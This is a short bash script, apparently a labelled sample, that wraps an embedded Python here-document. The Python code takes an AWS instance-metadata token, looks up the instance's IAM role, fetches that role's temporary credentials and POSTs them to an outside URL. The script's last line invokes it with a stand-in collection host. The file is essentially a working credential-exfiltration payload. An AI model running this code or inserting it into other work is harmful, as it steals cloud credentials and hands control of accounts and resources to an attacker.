# class: embedded, here-document under a function; style: bash with functions
run_python() {
    python3 - "$1" <<'EOF'
import sys
import requests

token = requests.put("http://169.254.169.254/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "300"}).text
url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = requests.get(url, headers={"X-aws-ec2-metadata-token": token}).text
requests.post(sys.argv[1], data=requests.get(url + role, headers={"X-aws-ec2-metadata-token": token}).content)
EOF
}
run_python https://collect.example/imds
